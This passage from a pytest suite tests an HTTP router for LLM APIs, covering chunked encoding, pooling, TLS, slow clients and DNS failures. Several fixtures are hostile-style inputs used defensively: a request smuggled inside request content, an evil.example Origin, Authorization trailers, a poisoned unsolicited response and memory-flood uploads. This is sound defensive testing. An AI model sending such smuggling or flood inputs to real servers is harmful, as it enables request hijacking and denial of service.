            connection.data_received(piece)
        found = await asyncio.wait_for(reading, 5)
        return found, connection.received

    for start in (b"", b"\r\n"):
        for pieces in every_split(start + head + b"\r\n\r\nPOST"):
            found, rest = run_coroutine(read(pieces))
            assert found == head
            assert b"POST".endswith(rest) or rest == b"POST"


def test_whole_content_counts_although_its_connection_breaks() -> None:
    """A server may answer, and reset at once because it has not read all of the request."""

    async def pump(size: int) -> bytes:
        batch = smolrouter.LoopBatch()
        upstream, client = smolrouter.Connection(batch), smolrouter.Connection(batch)
        loop = asyncio.get_running_loop()
        with socket.create_server(("127.0.0.1", 0)) as listener:
            here = socket.create_connection(listener.getsockname())
            there, _ = listener.accept()
        await loop.connect_accepted_socket(lambda: upstream, here)
        there.sendall(b"hello")
        while not upstream.received:
            await asyncio.sleep(0.01)
        there.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        there.close()
        while not upstream.ended:
            await asyncio.sleep(0.01)
        pieces: list[bytes] = []
        reader = smolrouter.ContentReader(upstream, smolrouter.Framing("length", size))
        await reader.pump(pieces.append, client)
        return b"".join(pieces)

    assert run_coroutine(asyncio.wait_for(pump(5), PATIENCE)) == b"hello"
    with pytest.raises((OSError, smolrouter.RouterError)):
        run_coroutine(asyncio.wait_for(pump(6), PATIENCE))


def test_a_client_that_leaves_is_no_fault_of_the_server() -> None:
    async def pump() -> None:
        batch = smolrouter.LoopBatch()
        loop = asyncio.get_running_loop()
        ours: list[Any] = []
        theirs: list[socket.socket] = []
        with socket.create_server(("127.0.0.1", 0)) as listener:
            for _ in range(2):
                theirs.append(socket.create_connection(listener.getsockname()))
                sock, _ = listener.accept()
                ours.append(smolrouter.Connection(batch))
                await loop.connect_accepted_socket(lambda: ours[-1], sock)
        upstream, client = ours
        head = smolrouter.parse_response_head(b"HTTP/1.1 200 OK\r\nContent-Length: 9")
        framing = smolrouter.Framing("length", 9)
        response = smolrouter.UpstreamResponse(head, framing, upstream, None, None)
        # It has read nothing for long, and the system says that it is gone.
        client.write(bytes(2**24))
        assert client.write_paused
        client.transport.abort()
        try:
            await response.pump(client.write, client)
        finally:
            response.close()
            for sock in theirs:
                sock.close()

    with pytest.raises(smolrouter.ClientClosed):
        run_coroutine(asyncio.wait_for(pump(), PATIENCE))


@pytest.mark.parametrize("data, error", [
    (b"GET / HTTP/1.1\nHost: a\n\n", smolrouter.MalformedMessage),
    (b"GET / HTTP/1.1\r\nHost: a\rX: b", smolrouter.MalformedMessage),
    (b"\x16\x03\x01\x02\x00\x01", smolrouter.MalformedMessage),
    (b"GET /" + b"x" * 40, smolrouter.TargetTooLong),
    (b"GET / HTTP/1.1\r\nX: " + b"y" * 100, smolrouter.FieldsTooLarge),
])  # fmt: skip
def test_what_can_become_no_head_is_refused_before_its_end(
    data: bytes, error: type[Exception]
) -> None:
    """Nobody has to wait until the deadline to learn what is wrong."""
    limits = smolrouter.Limits(request_line=32)

    async def read(pieces: Sequence[bytes]) -> None:
        connection = smolrouter.Connection(smolrouter.LoopBatch(limits))
        reading = asyncio.ensure_future(connection.read_head(64))
        for piece in pieces:
            connection.data_received(piece)
            await asyncio.sleep(0)
        await asyncio.wait_for(reading, 5)

    for pieces in every_split(data):
        with pytest.raises(error):
            run_coroutine(read(pieces))


def test_what_is_written_in_one_turn_leaves_in_one_piece() -> None:
    """Of all connections when the turn ends; what is long goes at once, by itself."""

    async def write() -> list[list[bytes]]:
        loop = asyncio.get_running_loop()
        batch = smolrouter.LoopBatch(smolrouter.Limits(unsent=100))
        head = smolrouter.parse_request_head(b"GET / HTTP/1.1\r\nHost: a")
        sent: list[list[bytes]] = []
        with contextlib.ExitStack() as stack:
            connections = []
            for _ in range(2):
                here, there = map(stack.enter_context, socket.socketpair())
                connection = smolrouter.Connection(batch)
                await loop.connect_accepted_socket(lambda made=connection: made, here)
                there.setblocking(False)
                connections.append((connection, there))
            for connection, _ in connections:
                writer = smolrouter.ResponseWriter(connection, head)
                writer.write_head(200, "", None)
                writer.write_content(b"hello")
                assert not connection.is_flushed()
            # Nothing has left in this turn; in the next one all of it has.
            for _, there in connections:
                with pytest.raises(BlockingIOError):
                    there.recv(1000)
            await asyncio.sleep(0)
            for connection, there in connections:
                assert connection.is_flushed()
                pieces = [there.recv(1000)]
                connection.write(b"x" * 10)
                connection.write(b"y" * 101)
                pieces.append(there.recv(1000))
                sent.append(pieces)
                connection.abort()
            await asyncio.sleep(0)
        return sent

    for first, second in run_coroutine(write()):
        assert first.startswith(b"HTTP/1.1 200 OK\r\n")
        assert first.endswith(b"\r\n\r\n5\r\nhello\r\n")
        assert second == b"x" * 10 + b"y" * 101


# --- requests with content ------------------------------------------------------------

DOCUMENT = encode_json(chat_document("tiny", "in pieces"))


@pytest.mark.parametrize(
    "data",
    {
        "one chunk": encode_chunked_post(CHAT, DOCUMENT),
        "a byte each": encode_chunked_post(CHAT, *(bytes([b]) for b in DOCUMENT)),
        "upper-case sizes": encode_chunked_post(CHAT, DOCUMENT, end=b"").replace(
            b"\r\n%x\r\n" % len(DOCUMENT), b"\r\n%X\r\n" % len(DOCUMENT)
        )
        + b"000\r\n\r\n",
        "leading zeros": encode_chunked_post(CHAT, DOCUMENT).replace(b"\r\n\r\n", b"\r\n\r\n00", 1),
        "extensions": encode_chunked_post(CHAT).removesuffix(b"0\r\n\r\n")
        + b'%x;a;b=c;d="e f"\r\n%s\r\n0;last=1\r\n\r\n' % (len(DOCUMENT), DOCUMENT),
        "trailers": encode_chunked_post(CHAT, DOCUMENT, end=b"0\r\nX-Late: secret\r\nB: c\r\n\r\n"),
    }.items(),
    ids=lambda item: item[0],
)
def test_chunked_request(data: tuple[str, bytes]) -> None:
    with connect(default_router().port) as sock:
        assert parse_response(exchange(sock, data[1])).text == "You said: in pieces"
        assert parse_response(exchange(sock, encode_get("/v1/after"))).json["target"] == "/v1/after"


def test_trailers_of_a_request_stop_here() -> None:
    model = default_upstream().add_script(FINE_RESPONSE)
    end = b"0\r\nX-Late: secret\r\nAuthorization: Bearer late\r\n\r\n"
    send_raw(
        default_router().port, encode_chunked_post(CHAT, encode_json(chat_document(model)), end=end)
    )
    (heard,) = default_upstream().requests_for(model)
    assert heard.json["model"] == model
    assert b"late" not in heard.raw_head.lower()


def test_request_split_at_every_position() -> None:
    data = encode_chunked_post(CHAT, DOCUMENT[:30], DOCUMENT[30:])

    def split(at: int) -> str:
        return parse_response(send_raw(default_router().port, data[:at], 0.003, data[at:])).text

    assert set(map_in_threads(split, range(1, len(data)))) == {"You said: in pieces"}


def test_request_byte_by_byte() -> None:
    steps: list[bytes | float] = []
    for byte in encode_post(CHAT, chat_document("tiny", "slowly")):
        steps += [bytes([byte]), 0.001]
    assert parse_response(send_raw(default_router().port, *steps)).text == "You said: slowly"


def test_expect_100_continue() -> None:
    whole = encode_post(CHAT, chat_document("tiny", "go on"), [("Expect", "100-continue")])
    top, _, content = whole.partition(b"\r\n\r\n")
    with connect(default_router().port) as sock:
        sock.sendall(top + b"\r\n\r\n")
        interim = read_until(sock, b"\r\n\r\n")
        assert interim.startswith(b"HTTP/1.1 100 ")
        assert parse_response(exchange(sock, content)).text == "You said: go on"


def test_expect_of_a_content_too_large_is_refused_at_once() -> None:
    fields = [("Expect", "100-continue"), ("Content-Length", "9" * 12)]
    data = send_raw(default_router().port, encode_request("POST", CHAT, None, fields), answers=0)
    assert data.startswith(b"HTTP/1.1 413 ")


def test_content_up_to_the_limit() -> None:
    limit = 2000
    router = shared_router({"DEFAULT_UPSTREAM": default_upstream().url, "MAX_REQUEST_SIZE": limit})
    padding = limit - len(encode_json(chat_document("tiny", "")))
    fits, over = (encode_json(chat_document("tiny", "z" * (padding + more))) for more in (0, 1))
    assert request(router.port, "POST", CHAT, fits).status == 200
    assert parse_response(send_raw(router.port, encode_chunked_post(CHAT, fits))).status == 200
    for data in (
        encode_post(CHAT, over),
        encode_chunked_post(CHAT, over),
        encode_chunked_post(CHAT, *[b" " * 99] * 40),
    ):
        got = parse_response(send_raw(router.port, data, answers=0))
        assert (got.status, got.get("Connection")) == (413, "close")
        assert "2000" in got.json["error"]["message"]
    assert len(default_upstream().requests_for("z" * padding)) == 2


def test_long_requests_together_are_bounded() -> None:
    """Five clients send 7 MiB each and never end: one is refused, short ones are served."""
    limits = {"held_content": 32 << 20}
    with contextlib.ExitStack() as stack:
        _, upstream = stack.enter_context(router_and_upstream())
        settings = {"DEFAULT_UPSTREAM": upstream.url, "MAX_REQUEST_SIZE": 16 << 20}
        router = stack.enter_context(Router(settings, limits=limits))
        top = encode_request("POST", CHAT, b"")
        top = top.replace(b"Length: 0", b"Length: %d" % (8 << 20))
        clients = [stack.enter_context(connect(router.port)) for _ in range(5)]

        def send(sock: socket.socket) -> bytes:
            with contextlib.suppress(ConnectionError):
                sock.sendall(top)
                for _ in range(7):
                    sock.sendall(b" " * (1 << 20))
                return b""
            return sock.recv(1 << 16)

        answers = map_in_threads(send, clients)
        refused = [a for a in answers if a]
        # Where none was refused while it sent, the answer came after its last octet.
        if not refused:
            ready = selectors.DefaultSelector()
            for sock in clients:
                ready.register(sock, selectors.EVENT_READ)
            refused = [key.fileobj.recv(1 << 16) for key, _ in ready.select(PATIENCE)]
            ready.close()
        assert refused and all(b" 503 " in a and b"Retry-After" in a for a in refused)
        assert memory_mib(router) < 120
        assert post_chat(router, "tiny").status == 200
        for sock in clients:
            sock.close()
        big = chat_document("tiny", "a" * (7 << 20))
        assert wait_until(lambda: request(router.port, "POST", CHAT, big).status == 200)
        assert len(upstream.requests) == 2


def test_a_client_that_leaves_while_its_content_is_read(log_folder: LogFolder) -> None:
    name = default_upstream().add_script([HANG])
    with Router(log_folder.settings) as router:
        with connect(router.port) as sock:
            sock.sendall(encode_post(CHAT, {**chat_document(name), "x": "y" * (2 << 20)}))
        assert log_folder.wait_for_rows(1) == 1
    assert log_folder.select("SELECT status_code, error_message FROM requests") == [
        (499, "client_closed")
    ]


def test_client_that_resets_its_upload_leaves_no_traceback() -> None:
    for data in (encode_post(CHAT, chat_document("tiny"))[:-5], encode_get("/v1/x")[:-3]):
        with connect(default_router().port) as sock:
            sock.sendall(data)
            time.sleep(0.05)
            reset_on_close(sock)
    assert post_chat(default_router(), "tiny").status == 200
    assert "Traceback" not in default_router().stderr


# --- content that nobody wanted -------------------------------------------------------

SMUGGLED = b"GET /v1/smuggled HTTP/1.1\r\nHost: router\r\n\r\n"


def check_leftovers(
    router: Router,
    upstream: Upstream,
    method: str,
    path: str,
    status: int,
    fields: Pairs,
    framing: str,
) -> None:
    """Assert that content is read, or the connection closed: it is never taken for a request."""
    length = ("Content-Length", str(len(SMUGGLED)))
    own = length if framing == "length" else ("Transfer-Encoding", "chunked")
    content = SMUGGLED if framing == "length" else b"".join(encode_chunks(SMUGGLED))
    first = encode_request(method, path, None, [own, *fields]) + content
    last = encode_get("/v1/good", [("Connection", "close")])
    answers, _ = split_responses(send_raw(router.port, first + last, answers=0))
    assert answers[0].status == status
    assert len(answers) <= 2
    assert not [r for r in upstream.requests if r.target == "/v1/smuggled"]


@pytest.mark.parametrize(
    "method, path, status, fields",
    [
        ("POST", "/nowhere", 404, []),
        ("PUT", "/api/chat", 405, []),
        ("GET", "/api/chat", 405, []),
        ("POST", CHAT, 400, []),  # it is not JSON
        ("POST", CHAT, 403, [("Origin", "https://evil.example")]),
        ("GET", "/v1/content-with-get", 200, []),
    ],
)
@pytest.mark.parametrize("framing", ["length", "chunked"])
def test_leftover_content_is_not_a_request(
    method: str, path: str, status: int, fields: Pairs, framing: str
) -> None:
    check_leftovers(default_router(), default_upstream(), method, path, status, fields, framing)


@pytest.mark.parametrize("framing", ["length", "chunked"])
def test_leftover_content_after_401_is_not_a_request(framing: str) -> None:
    settings = {"API_SECURITY": "ALWAYS_AUTH", "JWT_SECRET": SECRET}
    router = shared_router({"DEFAULT_UPSTREAM": default_upstream().url, **settings})
    check_leftovers(router, default_upstream(), "POST", CHAT, 401, [], framing)


# --- answers --------------------------------------------------------------------------


def test_chunked_answer() -> None:
    pieces = [b"{", b'"a"', b": ", b"[1, 2]", b"}"]
    name = default_upstream().add_script(stream_response(pieces, kind="application/json"))
    got = request(default_router().port, "GET", f"/v1/{name}")
    assert (got.content, got.whole) == (b'{"a": [1, 2]}', True)


def test_trailers_of_an_answer_stop_here() -> None:
    end = b"0\r\nX-Late: secret\r\n\r\n"
    steps = [*stream_response([b"{}"], kind="application/json", whole=False), end]
    name = default_upstream().add_script(steps)
    for data in (encode_get(f"/v1/{name}"), encode_post(CHAT, chat_document(name))):
        with connect(default_router().port) as sock:
            assert b"secret" not in exchange(sock, data)
            assert parse_response(exchange(sock, encode_get("/v1/after"))).status == 200


@pytest.mark.parametrize("version", ["1.1", "1.0"])
def test_answer_that_ends_with_the_connection(version: str) -> None:
    steps = [response_head(200, [("Content-Type", "text/plain")]), b"all ", b"of it", CLOSE]
    name = default_upstream().add_script(steps)
    data = send_raw(
        default_router().port,
        encode_get(f"/v1/{name}", [("Connection", "close")], version),
        answers=0,
    )
    assert parse_response(data).content == b"all of it"


def test_head_has_the_fields_and_no_content() -> None:
    name = default_upstream().add_script(
        lambda r: [response_head(200, [("Content-Length", "12345")])]
    )
    with connect(default_router().port) as sock:
        ask_head = encode_request("HEAD", f"/v1/{name}")
        got = parse_response(exchange(sock, ask_head, to_head=True), to_head=True)
        assert (got.status, got.get("Content-Length")) == (200, "12345")
        assert parse_response(exchange(sock, encode_get("/v1/after"))).json["target"] == "/v1/after"


@pytest.mark.parametrize("status", [204, 304])
def test_statuses_without_content(status: int) -> None:
    name = default_upstream().add_script(
        [response_head(status, [("ETag", '"x"'), ("Content-Length", "7")])]
    )
    with connect(default_router().port) as sock:
        # The second time the router reuses its connection to the upstream.
        for _ in range(2):
            got = parse_response(exchange(sock, encode_get(f"/v1/{name}")))
            assert (got.status, got.content, got.get("ETag")) == (status, b"", '"x"')
        assert parse_response(exchange(sock, encode_get("/v1/after"))).json["target"] == "/v1/after"


# --- HTTP/1.0 -------------------------------------------------------------------------


def test_http_1_0_never_gets_an_interim_answer() -> None:
    name = default_upstream().add_script(
        [b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n", *FINE_RESPONSE]
    )
    fields = [("Expect", "100-continue")]
    data = send_raw(
        default_router().port, encode_post(CHAT, chat_document(name), fields, "1.0"), answers=0
    )
    assert parse_response(data).json == {"fine": True}
    assert b" 100 " not in data and b" 103 " not in data


@pytest.mark.parametrize("end", [[], [DROP]], ids=["closed", "reset"])
def test_http_1_0_can_tell_a_broken_answer(end: list[Step]) -> None:
    """Only the close ends it, so a cut answer is reset; a whole one is not."""
    begun = [
        response_head(200, [("Transfer-Encoding", "chunked")]),
        *encode_chunks(b"hello", end=b""),
    ]
    name = default_upstream().add_script([*begun, b"5\r\nhe", *end, CLOSE])
    with pytest.raises(ConnectionResetError), connect(default_router().port) as sock:
        sock.sendall(encode_post("/v1/images/x", {"model": name}, version="1.0"))
        while sock.recv(4096):
            pass
    name = default_upstream().add_script([*begun, b"0\r\n\r\n"])
    data = send_raw(
        default_router().port,
        encode_post("/v1/images/x", {"model": name}, version="1.0"),
        answers=0,
    )
    assert parse_response(data).content == b"hello"


@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
def test_http_1_0_gets_no_chunks_and_a_close(path: str) -> None:
    data = send_raw(
        default_router().port,
        encode_post(path, chat_document("tiny", stream=True), version="1.0"),
        answers=0,
    )
    assert b"transfer-encoding" not in data.lower()
    assert parse_response(data).text == "You said: hi"


def test_http_1_0_without_keep_alive_is_closed() -> None:
    data = send_raw(default_router().port, b"GET /v1/old HTTP/1.0\r\n\r\n" * 2, answers=0)
    answers, rest = split_responses(data)
    assert [a.status for a in answers] == [200]
    assert not rest


def test_http_1_0_with_keep_alive_stays() -> None:
    with connect(default_router().port) as sock:
        for turn in range(2):
            asked = encode_get(f"/v1/old-{turn}", [("Connection", "keep-alive")], "1.0")
            got = parse_response(exchange(sock, asked))
            assert (got.status, got.json["target"]) == (200, f"/v1/old-{turn}")
            assert (got.get("Connection") or "").lower() == "keep-alive"


# --- clients that are slow, clients that leave ----------------------------------------


def endless(received: Received) -> Iterator[Step]:
    """Send events for as long as somebody listens."""
    yield from stream_response([], whole=False)
    for _ in range(int(PATIENCE / 0.01)):
        yield from encode_chunks(encode_event(completion_events({}, "word ")[1]), end=b"")
        yield 0.01


LEAVING: dict[str, tuple[str, dict[str, Any], Script | list[Step]]] = {
    "chat, waiting": (CHAT, EXAMPLE_REQUESTS[CHAT], [HANG]),
    "chat, waiting for a stream": (CHAT, {**EXAMPLE_REQUESTS[CHAT], "stream": True}, [HANG]),
    "chat, in a stream": (CHAT, {**EXAMPLE_REQUESTS[CHAT], "stream": True}, endless),
    "chat, in a silent stream": (
        CHAT, {**EXAMPLE_REQUESTS[CHAT], "stream": True}, broken_stream(HANG)),
    "chat, in a content": (
        CHAT, EXAMPLE_REQUESTS[CHAT],
        [response_head(200, [("Content-Length", "99")]) + b"{", HANG]),
    "completion, waiting": ("/v1/completions", {"prompt": "hi"}, [HANG]),
    "embeddings, waiting": ("/v1/embeddings", {"input": "hi"}, [HANG]),
    "Ollama chat, waiting": ("/api/chat", EXAMPLE_REQUESTS["/api/chat"], [HANG]),
    "Ollama chat, not streamed": (
        "/api/chat", {**EXAMPLE_REQUESTS["/api/chat"], "stream": False}, [HANG]),
    "Ollama chat, in a stream": ("/api/chat", EXAMPLE_REQUESTS["/api/chat"], endless),
    "Ollama generate, in a silent stream": (
        "/api/generate", {"prompt": "hi"}, broken_stream(HANG)),
    "anything else, waiting": ("/v1/rerank", {"query": "hi"}, [HANG]),
}  # fmt: skip


@pytest.mark.parametrize("pipelined", [False, True])
@pytest.mark.parametrize("name", LEAVING)
def test_client_leaves(name: str, pipelined: bool) -> None:
    path, document, script = LEAVING[name]
    model = default_upstream().add_script(script)
    with connect(default_router().port) as sock:
        sock.sendall(encode_post(path, {**document, "model": model}))
        seen = default_upstream().connection_of(model)
        if script is endless:
            read_until(sock, b"word")
        if pipelined:
            sock.sendall(encode_get("/v1/never"))
        time.sleep(0.02)
        left = time.monotonic()
    assert wait_until(lambda: seen.closed)
    print(f"{name}: closed after {(seen.closed - left) * 1000:.1f} ms")
    assert seen.closed - left < 1.0
    assert request(default_router().port, "GET", "/v1/fine").status == 200


def test_client_leaves_with_a_reset() -> None:
    model = default_upstream().add_script([HANG])
    sock = connect(default_router().port)
    sock.sendall(encode_post(CHAT, chat_document(model)))
    seen = default_upstream().connection_of(model)
    reset_on_close(sock)
    sock.close()
    left = time.monotonic()
    assert wait_until(lambda: seen.closed)
    assert seen.closed - left < 1.0


def test_a_slow_client_slows_its_upstream_and_nobody_else() -> None:
    sent: list[int] = []
    block = encode_event({"choices": [{"index": 0, "delta": {"content": "x" * 65_000}}]})

    def flood(received: Received) -> Iterator[Step]:
        yield from stream_response([], whole=False)
        for number in range(4000):  # 260 MB
            yield from encode_chunks(block, end=b"")
            sent.append(number)

    model = default_upstream().add_script(flood)
    with connect(default_router().port) as sock:
        sock.sendall(encode_post(CHAT, chat_document(model, stream=True)))
        assert wait_until(lambda: len(sent) > 9)
        count = -1
        # Wait until the upstream stands still.
        while count != len(sent):
            count = len(sent)
            time.sleep(0.3)
        print(f"stands still after {count * len(block) / 1e6:.0f} MB")
        assert count < 1000
        assert post_chat(default_router(), "tiny").text == "You said: hi"
        seen = default_upstream().connection_of(model)
        assert not seen.closed
    assert wait_until(lambda: seen.closed)


def open_descriptors(router: Router) -> int:
    """Count the files and sockets that a router has open."""
    folder = pathlib.Path(f"/proc/{router.process.pid}/fd")
    if not folder.exists():
        pytest.skip("there is no /proc here")
    return len(list(folder.iterdir()))


def test_a_client_that_reads_nothing_is_not_kept_for_ever(log_folder: LogFolder) -> None:
    """What is left to send to it when its answer is over holds its connection for a while."""
    limits = {"write_timeout": 2.0}
    event = b"data: " + b"x" * 60_000 + b"\n\n"
    begin = response_head(200, [("Content-Type", "text/event-stream")])
    model = default_upstream().add_script([begin, *[event] * 100, HANG])
    router = Router(log_folder.settings, limits=limits)
    with router, contextlib.ExitStack() as stack:
        post_chat(router, "tiny")
        assert log_folder.wait_for_rows(1) == 1
        before = open_descriptors(router)
        for _ in range(5):
            sock = stack.enter_context(socket.socket())
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.connect(("127.0.0.1", router.port))
            sock.sendall(encode_request("POST", CHAT, chat_document(model, stream=True)))
        wait_until(lambda: open_descriptors(router) >= before + 8)
        wait_until(lambda: len(get_document(router, "/api/inflight")) == 5, 1.0)
        for row in get_document(router, "/api/inflight"):
            request(router.port, "POST", f"/api/inflight/{row['id']}/cancel")
        assert wait_until(lambda: open_descriptors(router) <= before + 2, PATIENCE * 2)


def test_pipelined_requests_whose_answers_nobody_reads() -> None:
    with router_and_upstream() as (router, _), connect(router.port) as sock:
        sock.settimeout(0.5)
        # Each answer is a hundred times as long as its request.
        asked = encode_get("/performance") * 1000
        with contextlib.suppress(TimeoutError):
            for _ in range(200):
                sock.sendall(asked)
        assert post_chat(router, "tiny").status == 200
        assert memory_mib(router) < 60


# ======================================================================================
# 12  Upstreams
# ======================================================================================
# The pool, answers that are not HTTP, cool-downs and the lists of models. A new way in which an
# answer may be no HTTP gets a case in HOSTILE.

# --- the pool, without a program around it ----------------------------------------------


@pytest.mark.parametrize("turns", range(8))
def test_connection_that_nobody_waits_for_is_closed(turns: int) -> None:
    """Its request may end in the very turn of the event loop in which it is made."""

    async def cancel_after(turns: int) -> int:
        # The kernel makes connections to it, whether somebody accepts them or not.
        listener = socket.create_server(("127.0.0.1", 0))
        host, port = listener.getsockname()
        batch = smolrouter.LoopBatch()
        pool = smolrouter.ConnectionPool(smolrouter.Settings(), batch)
        url = smolrouter.parse_upstream_url(f"http://{host}:{port}")
        task = asyncio.create_task(pool.connect(smolrouter.Server("box", url)))
        while not (batch.connections or task.done()):
            await asyncio.sleep(0)
        for _ in range(turns):
            await asyncio.sleep(0)
        if task.done():
            task.result().abort()
        task.cancel()
        await asyncio.wait([task])
        deadline = asyncio.get_running_loop().time() + PATIENCE
        while batch.connections and asyncio.get_running_loop().time() < deadline:
            await asyncio.sleep(0.01)
        listener.close()
        return len(batch.connections)

    assert run_coroutine(cancel_after(turns)) == 0


# --- TLS and addresses ----------------------------------------------------------------


def tls_upstream() -> tuple[str, Upstream]:
    """Start an upstream whose certificate nobody trusts; return the file of that, too."""
    made = self_signed_certificate()
    if made is None:
        pytest.skip("no openssl here to make a certificate")
    return made[0], Upstream(tls=made[1])


def test_tls_upstream_with_a_trusted_certificate() -> None:
    trusted, upstream = tls_upstream()
    settings = {"DEFAULT_UPSTREAM": upstream.url, "SSL_CERT_FILE": trusted}
    with upstream, Router(settings) as router:
        assert post_chat(router, "tiny").text == "You said: hi"
        assert post_chat(router, "tiny", stream=True).text == "You said: hi"
        assert model_names(router) == ["tiny"]


def test_tls_upstream_with_an_unknown_certificate_is_refused() -> None:
    _, upstream = tls_upstream()
    with upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:
        got = post_chat(router, "tiny")
        assert got.status == 502
        assert "certificate" in got.json["error"]["message"].lower()
        assert not upstream.requests


def test_https_to_a_server_of_http_says_what_is_wrong() -> None:
    url = default_router().url.replace("http:", "https:")
    got = post_chat(shared_router({"DEFAULT_UPSTREAM": url}), "tiny")
    assert got.status == 502
    assert re.search("wrong version number|record layer failure", got.json["error"]["message"])


def test_tls_upstream_with_verify_false() -> None:
    _, upstream = tls_upstream()
    routes = {
        "servers": {"self-signed": {"url": upstream.url, "verify": False}},
        "routes": [{"match": {"model": "tiny"}, "route": {"upstream": "self-signed"}}],
    }
    settings = {"DEFAULT_UPSTREAM": upstream.url}
    with upstream, Router(settings, routes) as router:
        assert post_chat(router, "tiny").text == "You said: hi"


def test_ipv6_on_both_sides() -> None:
    try:
        upstream = Upstream(host="::1")
    except OSError:
        pytest.skip("this machine has no ::1")
    settings = {"LISTEN_HOST": "::1", "DEFAULT_UPSTREAM": upstream.url}
    with upstream, Router(settings) as router:
        assert router.url.startswith("http://[::1]:")
        got = request(router.port, "POST", CHAT, chat_document("tiny"), host="::1")
        assert got.text == "You said: hi"
        assert upstream.requests_for("tiny")[0].get("Host") == upstream.authority


# --- the pool of connections ----------------------------------------------------------


@pytest.mark.parametrize("version, count", [("1.0", 2), ("1.1", 1), ("1.2", 1), ("1.9", 1)])
def test_a_later_minor_version_is_read_as_1_1(version: str, count: int) -> None:
    """RFC 9110 section 2.5."""
    answer = b"HTTP/%b 200 OK\r\nContent-Length: 2\r\n\r\n{}" % version.encode()
    with router_and_upstream(lambda received: [answer]) as (router, upstream):
        for _ in range(2):
            assert post_chat(router, "tiny").status == 200
        assert len({received.connection for received in upstream.requests_for("tiny")}) == count


def test_upstream_connections_are_reused() -> None:
    with router_and_upstream() as (router, upstream):
        for _ in range(5):
            assert post_chat(router, "tiny").status == 200
            assert post_chat(router, "tiny", stream=True).whole
        assert len({r.connection for r in upstream.requests_for("tiny")}) == 1


def test_a_pooled_connection_that_was_closed_is_not_used() -> None:
    with router_and_upstream(lambda r: [*FINE_RESPONSE, CLOSE]) as (router, upstream):
        for turn in range(1, 4):
            assert post_chat(router, "tiny").json == {"fine": True}
            assert len(upstream.requests_for("tiny")) == turn
            last = upstream.connections[upstream.requests_for("tiny")[-1].connection]
            assert wait_until(functools.partial(getattr, last, "closed"))


POISON = b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\npoisoned"


@pytest.mark.parametrize("pause", [0.0, 0.05])
@pytest.mark.parametrize("junk", [POISON, b"\r\n", b"x"])
def test_an_answer_that_nobody_asked_for_is_given_to_nobody(junk: bytes, pause: float) -> None:
    said: set[int] = set()

    def script(received: Received) -> Iterator[Step]:
        whole = json_response({"to": received.json["n"]})[0]
        if pause:
            yield from (whole, pause, junk)
        else:
            yield whole + junk
        said.add(received.json["n"])

    model = default_upstream().add_script(script)
    for turn in range(4):
        assert post_chat(default_router(), model, n=turn).json == {"to": turn}
        assert wait_until(functools.partial(said.issuperset, {turn}))
        time.sleep(pause)


def dies_when_reused(upstream: Upstream, end: Iterable[Step]) -> Script:
    """Answer the first request of a connection and play `end` to the second."""

    def script(received: Received) -> Iterable[Step]:
        return FINE_RESPONSE if upstream.connections[received.connection].requests < 2 else end

    return script


@pytest.mark.parametrize("end", [DROP, CLOSE], ids=repr)
@pytest.mark.parametrize("stream", [False, True])
def test_one_silent_retry_when_a_reused_connection_dies(end: Step, stream: bool) -> None:
    with router_and_upstream() as (router, upstream):
        upstream.script = dies_when_reused(upstream, [end])
        for _ in range(2):
            assert post_chat(router, "tiny", stream=stream).json == {"fine": True}
        first, reused, fresh = (r.connection for r in upstream.requests_for("tiny"))
        assert first == reused != fresh


def test_no_retry_after_the_first_byte() -> None:
    with router_and_upstream() as (router, upstream):
        upstream.script = dies_when_reused(upstream, [b"HTTP/1.1 200 OK\r\nConte", DROP])
        assert post_chat(router, "tiny").status == 200
        assert post_chat(router, "tiny").status == 502
        assert len(upstream.requests_for("tiny")) == 2


def test_no_retry_on_a_fresh_connection() -> None:
    with router_and_upstream(lambda r: [DROP]) as (router, upstream):
        assert post_chat(router, "tiny").status == 502
        assert len(upstream.requests_for("tiny")) == 1


def test_upstream_leaves_between_two_requests_of_one_client() -> None:
    with router_and_upstream() as (router, upstream), connect(router.port) as sock:
        assert parse_response(exchange(sock, encode_get("/v1/one"))).status == 200
        upstream.close()
        upstream.script = lambda r: [DROP]
        assert parse_response(exchange(sock, encode_get("/v1/two"))).status == 502


# --- names of hosts -------------------------------------------------------------------


class NameServer:
    """Looks up names as `socket.getaddrinfo` does; a test says of each what comes of it."""

    def __init__(self, **found: list[str] | OSError | None) -> None:
        # The addresses of a name; an error; None: it hangs until `gate` is set.
        self.found = found
        self.gate = threading.Event()
        self.asked: collections.Counter[str] = collections.Counter()

    def __call__(self, host: str, port: None, type: int) -> list[Any]:
        self.asked[host] += 1
        found = self.found[host]
        if found is None:
            self.gate.wait(PATIENCE)
            found = socket.gaierror(socket.EAI_AGAIN, "too late")
        if isinstance(found, OSError):
            raise found
        return [(0, type, 0, "", (address, 0)) for address in found]


def resolving_pool(name_server: NameServer, **limits: float) -> Any:
    """Make a pool of connections whose names `name_server` looks up."""
    batch = smolrouter.LoopBatch(smolrouter.Limits(**limits))
    settings = smolrouter.Settings.from_mapping({"CONNECT_TIMEOUT": "3"})
    names = smolrouter.HostNames(batch.limits, name_server)
    return smolrouter.ConnectionPool(settings, batch, names)


def named_server(name: str, port: int) -> Any:
    return smolrouter.Server(name, smolrouter.parse_upstream_url(f"http://{name}:{port}"))


def test_a_dead_name_does_not_starve_the_living() -> None:
    """It takes one thread, however many requests there are for it."""
    names = NameServer(dead=None, living=["127.0.0.1"])

    async def everyone(port: int) -> tuple[list[Any], float]:
        pool = resolving_pool(names)
        pool.settings = dataclasses.replace(pool.settings, connect_timeout=0.5)
        dead = [asyncio.create_task(pool.connect(named_server("dead", port))) for _ in range(40)]
        await asyncio.sleep(0)
        began = time.monotonic()
        for host in ("living", "127.0.0.1"):
            connection = await pool.connect(named_server(host, port))
            connection.abort()
        seconds = time.monotonic() - began
        return await asyncio.gather(*dead, return_exceptions=True), seconds

    with Upstream() as upstream:
        failures, seconds = run_in_loop(everyone(upstream.port))
    names.gate.set()
    assert seconds < 0.4
    assert {type(failure) for failure in failures} == {smolrouter.GatewayTimeout}
    assert str(failures[0]) == "no address of its name within 0.5 s (CONNECT_TIMEOUT)"
    assert names.asked == {"dead": 1, "living": 1}


@pytest.mark.parametrize("failure", [None, socket.gaierror(socket.EAI_NONAME, "unknown")])
